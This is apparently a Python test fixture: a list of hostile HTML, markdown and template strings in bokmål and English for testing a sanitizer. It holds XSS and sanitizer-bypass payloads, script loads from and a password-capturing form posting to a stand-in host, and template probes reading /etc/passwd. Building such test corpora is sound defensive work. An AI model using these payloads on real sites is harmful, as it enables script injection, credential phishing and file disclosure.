"""Our own small corpus of hostile text, in bokmål and English; the public corpora are run by make test-slow."""

HOSTILE = """
<script>alert('hei')</script>
<script>alert("blåbærsyltetøy")</script>
<SCRIPT SRC=https://ond.no/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="varsle('Du er hacket')">
<IMG \"\"\"><SCRIPT>alert("XSS")</SCRIPT>">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Trykk her</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>">
<embed src=//ond.no/x.swf>
<base href=//ond.no/>
<meta http-equiv=refresh content="0;url=https://ond.no">
<link rel=stylesheet href=//ond.no/x.css>
<style>body{display:none}</style>
<div style="position:fixed;inset:0">Logg inn på nytt</div>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<input autofocus onfocus=alert(1)>
<a href="javascript:alert(1)">Vinn en sykkel</a>
<a href=//ond.no>Kommunens skjema</a>
<a onmouseover="alert(1)">hold her</a>
<p class="notice" id="main">falsk melding</p>
<form action=https://ond.no><input name=passord><button>Logg inn</button></form>
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<!-- <script>alert(1)</script> -->
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<%= system("ls") %>
{{ 7*7 }} {% include "/etc/passwd" %} ${7*7}
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</p></div></body></html><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
[klikk](javascript:alert(1))
[klikk](javascript://asker.no/%0aalert(1))
[klikk](  javascript:alert(1))
[klikk](java\tscript:alert(1))
[klikk](&#x6A;avascript:alert(1))
[klikk](<javascript:alert(1)>)
[klikk](data:text/html,<script>alert(1)</script>)
[klikk](https://asker.no"onmouseover="alert(1))
[klikk](<https://asker.no" onmouseover="alert(1)>)
[klikk](https://asker.no 'tittel" onmouseover="alert(1)')
[klikk](https://asker.no/<script>alert(1)</script>)
[klikk](https://asker.no/`onclick=alert(1)`)
["><script>alert(1)</script>](https://asker.no)
[<img src=x onerror=alert(1)>](https://asker.no)
[![klikk](javascript:alert(1))](https://asker.no)
![x](x" onerror="alert(1))
![x](javascript:alert(1))
![<img src=x onerror=alert(1)>](https://asker.no)
[a]: javascript:alert(1) "tittel"
[a]: https://asker.no/"onmouseover="alert(1)
<javascript:alert(1)>
<https://asker.no"onmouseover="alert(1)>
<https://asker.no/'onmouseover='alert(1)>
https://asker.no"onmouseover="alert(1)
https://asker.no/'onmouseover='alert(1)
https://asker.no/<script>alert(1)</script>
https://asker.no/\u202egnp.exe
https://asker.no/&quot;onmouseover=alert(1)
http://[::1]/
http://[<script>]/
**<script>alert(1)</script>**
# <script>alert(1)</script>
- <img src=x onerror=alert(1)>
> <svg onload=alert(1)>
1. [x](javascript:alert(1))
```html
<style>*{color:red}</style>
```
~~~ "onclick="alert(1)
| <script> | alert(1) |
|---|---|
\\<script>alert(1)</script>
\\[x](javascript:alert(1))
[x\\](javascript:alert(1))
<a href="https://asker.no">`</a onmouseover=alert(1)>`
<details/open/ontoggle="alert`1`">
Hei på deg <b onclick=alert(1)>du</b>!
Ordføreren sa: «<i style=x:expression(alert(1))>nei</i>»
Kjære kommune, <script src=data:,alert(1)></script>
Stem på meg! <marquee onstart=alert(1)>
Neste møte er <time datetime=" onfocus=alert(1)">tirsdag</time>
Bokmål og nynorsk: <q cite="javascript:alert(1)">eg veit ikkje</q>
""".strip().splitlines()
